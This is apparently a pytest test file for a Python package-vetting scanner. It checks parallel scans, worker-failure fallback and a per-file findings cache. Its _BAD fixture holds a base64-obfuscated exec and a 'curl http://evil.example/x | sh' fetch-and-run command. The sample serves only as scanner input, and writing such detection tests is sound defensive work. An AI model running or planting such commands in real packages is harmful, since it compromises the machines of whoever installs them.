"""The code check's speed-ups never change what it finds: scans started during the
downloads (`EarlyScans`) give the findings an in-process scan gives, and a worker
that fails is redone in-process, where its error is that package's finding."""

from __future__ import annotations

import hashlib
import multiprocessing
import os
from pathlib import Path
from typing import Any

import pytest

from pipwarden import checkcache
from pipwarden.candidate import Candidate, VetContext
from pipwarden.checks import code
from pipwarden.findings import Severity
from pipwarden.policy import Policy
from pipwarden.scan import TargetResult, scan_target
from pipwarden.scan.rules import BY_ID
from pipwarden.store import Store
from tests.support.builders import build_wheel

needs_two_cores = pytest.mark.skipif((os.cpu_count() or 1) < 2, reason="needs two cores")

_BAD = (
    "import base64, os\n"
    "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL3guaW8vYSB8IHNoIik='))\n"
    "os.system('curl http://evil.example/x | sh')\n"
)


def _wheel(tmp_path: Path, name: str, body: str) -> tuple[Path, str]:
    filename, data = build_wheel(name, "1.0", {f"{name.replace('-', '_')}/__init__.py": body})
    path = tmp_path / filename
    path.write_bytes(data)
    return path, hashlib.sha256(data).hexdigest()


def _candidate(path: Path, sha: str, name: str) -> Candidate:
    return Candidate(
        name=name,
        version="1.0",
        filename=path.name,
        url=f"https://example.invalid/{path.name}",
        sha256=sha,
        kind="wheel",
        path=path,
    )


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store(tmp_path / "store.sqlite3")


@needs_two_cores
def test_early_scans_find_what_an_in_process_scan_finds(tmp_path: Path, store: Store) -> None:
    bad, bad_sha = _wheel(tmp_path, "wt-bad", _BAD)
    good, good_sha = _wheel(tmp_path, "wt-good", "VALUE = 1\n")
    scans = code.EarlyScans(store)
    try:
        scans.start([bad_sha, good_sha])
        assert scans.pool is not None
        scans.submit(bad_sha, bad)
        scans.submit(good_sha, good)
        early = scans.result(bad_sha)
        assert not isinstance(early, str) and early is not None
        assert early.findings == scan_target(bad).findings
        assert any(f.severity >= 3 for f in early.findings)  # the payload is seen
        ctx = VetContext(policy=Policy(), store=store, index=None)  # type: ignore[arg-type]
        ctx.scratch[code.EARLY] = scans
        got = code.run(_candidate(bad, bad_sha, "wt-bad"), ctx)
        alone = code.run(_candidate(bad, bad_sha, "wt-bad"), VetContext(Policy(), store, None))  # type: ignore[arg-type]
        assert got == alone and got
    finally:
        scans.close()


def test_no_workers_for_what_is_cached_or_alone(tmp_path: Path, store: Store) -> None:
    bad, bad_sha = _wheel(tmp_path, "wt-bad", _BAD)
    _, good_sha = _wheel(tmp_path, "wt-good", "VALUE = 1\n")
    checkcache.put(store, code.NAME, code.CACHE_VERSION, good_sha, [])
    scans = code.EarlyScans(store)
    scans.start([bad_sha, good_sha, None])  # one left to scan: in-process, no pool
    assert scans.pool is None
    scans.submit(bad_sha, bad)
    assert scans.result(bad_sha) is None
    scans.close()


@needs_two_cores
@pytest.mark.skipif(
    multiprocessing.get_start_method() != "fork", reason="the workers must inherit the patch"
)
def test_a_failed_worker_is_redone_in_process(
    tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    bad, bad_sha = _wheel(tmp_path, "wt-bad", _BAD)
    _, good_sha = _wheel(tmp_path, "wt-good", "VALUE = 1\n")

    def broken(path: Path) -> None:
        raise ValueError("the worker broke")

    monkeypatch.setattr(code, "scan_target", broken)  # the forked workers inherit it
    scans = code.EarlyScans(store)
    try:
        scans.start([bad_sha, good_sha])
        scans.submit(bad_sha, bad)
        assert scans.result(bad_sha) is None  # never trusted as "nothing found"
        monkeypatch.undo()
        ctx = VetContext(policy=Policy(), store=store, index=None)  # type: ignore[arg-type]
        ctx.scratch[code.EARLY] = scans
        assert code.run(_candidate(bad, bad_sha, "wt-bad"), ctx) == code.run(
            _candidate(bad, bad_sha, "wt-bad"),
            VetContext(Policy(), store, None),  # type: ignore[arg-type]
        )
    finally:
        scans.close()


# -- the per-file memo ---------------------------------------------------------

_HELPER = "def helper(x):\n    return [i * 2 for i in range(x)]\n"


class _Counting(checkcache.FileMemo):
    """A FileMemo that counts the files it was asked to remember (analysed afresh)."""

    def __init__(self, store: Store) -> None:
        super().__init__(store, code.CACHE_VERSION)
        self.analysed: list[str] = []

    def put(self, key: str, findings: list[Any], facts: Any) -> None:
        self.analysed.append(key)
        super().put(key, findings, facts)


def _release(tmp_path: Path, version: str, init: str) -> Path:
    files = {"wt_lib/__init__.py": init, "wt_lib/helper.py": _HELPER}
    filename, data = build_wheel("wt-lib", version, files)
    path = tmp_path / filename
    path.write_bytes(data)
    return path


def _scan(path: Path, memo: checkcache.FileMemo | None) -> TargetResult:
    result = scan_target(path, memo=memo)
    if memo is not None:
        memo.flush()
    return result


def test_a_memo_hit_gives_the_same_findings(tmp_path: Path, store: Store) -> None:
    wheel = _release(tmp_path, "1.0", _BAD)
    plain = scan_target(wheel)
    first = _Counting(store)
    assert _scan(wheel, first) == plain and len(first.analysed) == 2
    again = _Counting(store)
    hit = _scan(wheel, again)
    assert again.analysed == []  # every Python file came from the memo
    assert hit == plain and hit.verdict == plain.verdict != "clean"


def test_only_the_changed_file_of_a_new_release_is_analysed(tmp_path: Path, store: Store) -> None:
    _scan(_release(tmp_path, "1.0", "VALUE = 1\n"), _Counting(store))
    upgrade = _release(tmp_path, "1.1", _BAD)  # helper.py unchanged, __init__.py changed
    memo = _Counting(store)
    got = _scan(upgrade, memo)
    assert len(memo.analysed) == 1
    assert got == scan_target(upgrade) and got.verdict != "clean"


def test_the_same_bytes_elsewhere_in_the_target_are_analysed_there(
    tmp_path: Path, store: Store
) -> None:
    """The key holds the file's place: a finding names its own file."""
    first = tmp_path / "a"
    first.mkdir()
    (first / "one.py").write_text(_BAD)
    second = tmp_path / "b"
    second.mkdir()
    (second / "two.py").write_text(_BAD)
    _scan(first, _Counting(store))
    memo = _Counting(store)
    got = _scan(second, memo)
    assert len(memo.analysed) == 1
    assert got == scan_target(second) and {f.file for f in got.findings} == {"two.py"}


@pytest.mark.parametrize("damage", ["text", "digest", "structure"])
def test_a_corrupt_memo_entry_is_ignored(tmp_path: Path, store: Store, damage: str) -> None:
    wheel = _release(tmp_path, "1.0", _BAD)
    plain = scan_target(wheel)
    _scan(wheel, _Counting(store))
    rows = store.query("SELECT key, value FROM file_memo")
    assert rows
    for key, _value in rows:
        if damage == "text":  # claims nothing was found, digest left as it was
            store.execute(
                "UPDATE file_memo SET value = ? WHERE key = ?",
                ('{"facts": {}, "findings": []}', key),
            )
        elif damage == "digest":
            store.execute("UPDATE file_memo SET digest = ? WHERE key = ?", ("0" * 64, key))
        else:  # a well-formed digest over text that is not an entry
            text = '{"facts": {"events": [{"x": 1}]}, "findings": []}'
            store.execute(
                "UPDATE file_memo SET value = ?, digest = ? WHERE key = ?",
                (text, hashlib.sha256(text.encode()).hexdigest(), key),
            )
    memo = _Counting(store)
    got = _scan(wheel, memo)
    assert len(memo.analysed) == 2  # analysed again, never trusted
    assert got == plain and got.verdict != "clean"
    healed = _Counting(store)
    assert _scan(wheel, healed) == plain and healed.analysed == []  # rewritten whole


def test_a_rule_change_empties_the_memo(tmp_path: Path, store: Store) -> None:
    wheel = _release(tmp_path, "1.0", _BAD)
    _scan(wheel, _Counting(store))
    other = checkcache.FileMemo(store, "code-another-scanner")
    other_count: list[str] = []
    other.put = lambda key, findings, facts: other_count.append(key)  # type: ignore[method-assign]
    scan_target(wheel, memo=other)
    assert len(other_count) == 2


def test_the_pipeline_workers_fill_the_memo(tmp_path: Path, store: Store) -> None:
    bad, _ = _wheel(tmp_path, "wt-bad", _BAD)
    assert code._scan(bad, store.path) == scan_target(bad)
    assert store.query("SELECT count(*) FROM file_memo")[0][0] == 1


def test_every_field_of_the_context_is_in_the_memo_key() -> None:
    from dataclasses import fields, replace

    from pipwarden.scan import memo_key
    from pipwarden.scan.engine import FileContext

    base = FileContext("p/mod.py", "wheel")
    changed = {
        "name": "p/other.py",
        "kind": "sdist",
        "pure": True,
        "setup_helper": True,
        "setup_uses": frozenset({"VERSION"}),
        "entry": frozenset({"run"}),
        "startup": True,
        "args_in": frozenset({("run", 0, frozenset({"url"}))}),
    }
    compared = {f.name for f in fields(FileContext) if f.compare}
    changed = {k: v for k, v in changed.items() if k in compared}  # fields added later: keyed
    keys = {memo_key(replace(base, **{k: v}), b"x = 1\n") for k, v in changed.items()}
    assert len(keys | {memo_key(base, b"x = 1\n")}) == len(changed) + 1
    assert memo_key(base, b"x = 2\n") != memo_key(base, b"x = 1\n")
    # sets in any order give one key
    a = replace(base, entry=frozenset({"a", "b", "c"}))
    b = replace(base, entry=frozenset({"c", "b", "a"}))
    assert memo_key(a, b"") == memo_key(b, b"")


def test_what_would_not_read_back_the_same_is_not_kept(tmp_path: Path, store: Store) -> None:
    from pipwarden.findings import Finding, Severity

    memo = checkcache.FileMemo(store, code.CACHE_VERSION)
    tupled = Finding("code", "exec.dynamic", Severity.HIGH, "m", details={"at": (1, 2)})
    memo.put("a", [tupled], {})  # JSON would give a list back
    memo.put("b", [], {"events": ["a list"]})  # type: ignore[dict-item]
    memo.put("c", [], {"events": {object()}})
    plain = Finding("code", "exec.dynamic", Severity.HIGH, "m", file="x.py")
    memo.put("d", [plain], {"imported_calls": {(1, "mod", "f")}})
    memo.flush()
    assert memo.get("a") is None and memo.get("b") is None and memo.get("c") is None
    assert memo.get("d") == ([plain], {"imported_calls": {(1, "mod", "f")}})


@needs_two_cores
def test_a_killed_worker_breaks_nothing_but_its_speed(tmp_path: Path, store: Store) -> None:
    import signal

    bad, bad_sha = _wheel(tmp_path, "wt-bad", _BAD)
    _, good_sha = _wheel(tmp_path, "wt-good", "VALUE = 1\n")
    scans = code.EarlyScans(store)
    try:
        scans.start([bad_sha, good_sha])
        assert scans.pool is not None
        for pid in list(scans.pool._processes):  # as the OOM killer would
            os.kill(pid, signal.SIGKILL)
        scans.submit(bad_sha, bad)  # a broken pool: nothing raised here
        assert scans.result(bad_sha) is None
        ctx = VetContext(policy=Policy(), store=store, index=None)  # type: ignore[arg-type]
        ctx.scratch[code.EARLY] = scans
        got = code.run(_candidate(bad, bad_sha, "wt-bad"), ctx)
        assert got and got == code.run(
            _candidate(bad, bad_sha, "wt-bad"),
            VetContext(Policy(), store, None),  # type: ignore[arg-type]
        )
    finally:
        scans.close()


def test_an_unreadable_artifact_is_a_finding_of_the_rule_that_claims_it(
    tmp_path: Path, store: Store
) -> None:
    """An artifact the scanner cannot open is observed as unreadable; the archive rule that
    claims the fact gives the package's finding its id, severity (it blocks) and fix."""
    gone = tmp_path / "gone-1.0-py3-none-any.whl"
    ctx = VetContext(Policy(), store, None)  # type: ignore[arg-type]
    [f] = code.run(_candidate(gone, "0" * 64, "gone"), ctx)
    assert (f.check, f.rule, f.severity) == (code.NAME, "archive.corrupt", Severity.HIGH)
    assert f.message.startswith("artifact could not be read: ") and "no such file" in f.message
    assert f.remediation == BY_ID["archive.corrupt"].fix
    assert (f.package, f.version, f.file) == ("gone", "1.0", gone.name)
